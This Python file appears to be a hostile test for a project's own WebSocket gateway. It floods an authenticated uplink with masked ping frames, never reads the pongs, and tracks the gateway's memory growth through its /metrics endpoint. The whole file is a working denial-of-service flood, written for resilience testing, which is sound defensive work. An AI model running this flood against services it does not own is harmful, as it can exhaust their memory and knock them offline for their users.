"""An uplink that sends pings without end and reads no pong: what it is owed gathers in the gateway's memory.

Run it with `PYTHONPATH=tests python -m hostile.ping_flood URL --token TOKEN`; URL is a session's uplink, ws://...
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import socket
import time
from dataclasses import asdict, dataclass
from urllib.parse import urlsplit

import httpx

_RECEIVE_BUFFER_BYTES = 4096
_PAYLOAD_BYTES = 125  # the longest that a ping may carry (RFC 6455, section 5.5)
_PINGS_PER_WRITE = 500
_FIN_PING, _MASKED = 0x89, 0x80


@dataclass(frozen=True, slots=True)
class Result:
    """sent_bytes: until the gateway hung up, or the time was over. The gateway's memory is in MB, at its highest."""

    sent_bytes: int
    was_cut_off: bool
    resident_mb_before: float
    resident_mb_after: float


async def attack(url: str, token: str, seconds: float) -> Result:
    """Flood one uplink for so many seconds, or until the gateway hangs up."""
    parts = urlsplit(url)
    async with httpx.AsyncClient(base_url=f"http://{parts.netloc}", trust_env=False) as http:
        before_mb = highest_mb = await resident_mb(http)
        with await asyncio.to_thread(_handshake, parts.hostname or "", parts.port or 80, parts.path, token) as uplink:
            flooding = asyncio.create_task(asyncio.to_thread(_flood, uplink, seconds))
            while not flooding.done():
                highest_mb = max(highest_mb, await resident_mb(http))
                await asyncio.wait([flooding], timeout=0.1)
            sent_bytes, was_cut_off = await flooding
            return Result(sent_bytes, was_cut_off, before_mb, max(highest_mb, await resident_mb(http)))


async def resident_mb(http: httpx.AsyncClient) -> float:
    """The gateway's memory as it says itself."""
    text = (await http.get("/metrics")).text
    line = next(line for line in text.splitlines() if line.startswith("process_resident_memory_bytes "))
    return float(line.rpartition(" ")[2]) / 1e6


def _handshake(host: str, port: int, path: str, token: str) -> socket.socket:
    uplink = socket.socket()
    uplink.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _RECEIVE_BUFFER_BYTES)
    uplink.settimeout(10)
    uplink.connect((host, port))
    uplink.sendall(
        f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        f"Authorization: Bearer {token}\r\n\r\n".encode()
    )
    status = uplink.recv(12)
    if status != b"HTTP/1.1 101":
        raise ConnectionError(f"the uplink was refused: {status.decode(errors='replace')}")
    return uplink


def _flood(uplink: socket.socket, seconds: float) -> tuple[int, bool]:
    ping = bytes([_FIN_PING, _MASKED | _PAYLOAD_BYTES]) + bytes(4) + os.urandom(_PAYLOAD_BYTES)
    pings, sent_bytes = ping * _PINGS_PER_WRITE, 0
    end_s = time.monotonic() + seconds
    uplink.settimeout(1)
    while time.monotonic() < end_s:
        try:
            uplink.sendall(pings)
            sent_bytes += len(pings)
        except TimeoutError:
            return sent_bytes, False  # the gateway has stopped to read
        except OSError:
            return sent_bytes, True
    return sent_bytes, False


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("url")
    parser.add_argument("--token", required=True)
    parser.add_argument("--seconds", type=float, default=8.0)
    options = parser.parse_args()
    print(json.dumps(asdict(asyncio.run(attack(options.url, options.token, options.seconds))), indent=2))


if __name__ == "__main__":
    main()
